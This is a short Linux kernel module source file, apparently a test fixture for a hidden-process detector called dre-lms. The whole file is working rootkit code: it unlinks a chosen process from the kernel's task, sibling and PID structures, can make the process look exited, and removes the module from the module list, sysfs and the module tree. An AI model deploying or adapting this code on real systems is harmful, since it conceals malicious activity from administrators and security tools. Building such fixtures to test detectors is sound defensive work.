// SPDX-License-Identifier: GPL-2.0-only
/*
 * A root-kit for the tests of dre-lms, and for nothing else: it hides one task of the guest it is loaded in, and itself.
 *
 * level 1: from the list of processes; 2: from the numbers of processes and from its parent, too, so that ps(1) does
 * not show it; 3: it also has the number of no process, and seems to have ended.
 * hide=1: the module leaves the list of modules and /sys/module; 2: the tree by which the kernel finds it, too.
 */
#include <linux/idr.h>
#include <linux/module.h>
#include <linux/pid_namespace.h>
#include <linux/sched/signal.h>
#include <linux/sched/task.h>

#include "found.h"

static int pid, level, hide;
module_param(pid, int, 0);
module_param(level, int, 0);
module_param(hide, int, 0);

static int __init hider_init(void)
{
	rwlock_t *lock = found("tasklist_lock");
	void (*leave_tree)(struct module *module) = found("mod_tree_remove");
	struct task_struct *task;

	if (!lock || !leave_tree)
		return -ENOENT;
	write_lock_irq(lock);
	task = pid ? pid_task(find_pid_ns(pid, &init_pid_ns), PIDTYPE_PID) : NULL;
	if (task) {
		if (level >= 1)
			list_del_init(&task->tasks);
		if (level >= 2) {
			list_del_init(&task->sibling);
			idr_remove(&init_pid_ns.idr, pid);
		}
		if (level >= 3) {
			task->pid = 0;
			task->tgid = 0;
			task->exit_state = EXIT_DEAD;
		}
	}
	write_unlock_irq(lock);
	if (pid && !task)
		return -ESRCH;
	if (hide) {
		list_del_init(&THIS_MODULE->list);
		kobject_del(&THIS_MODULE->mkobj.kobj);
	}
	if (hide >= 2)
		leave_tree(THIS_MODULE);
	return 0;
}

static void __exit hider_exit(void)
{
}

module_init(hider_init);
module_exit(hider_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("hides a task in a guest of the tests of dre-lms");
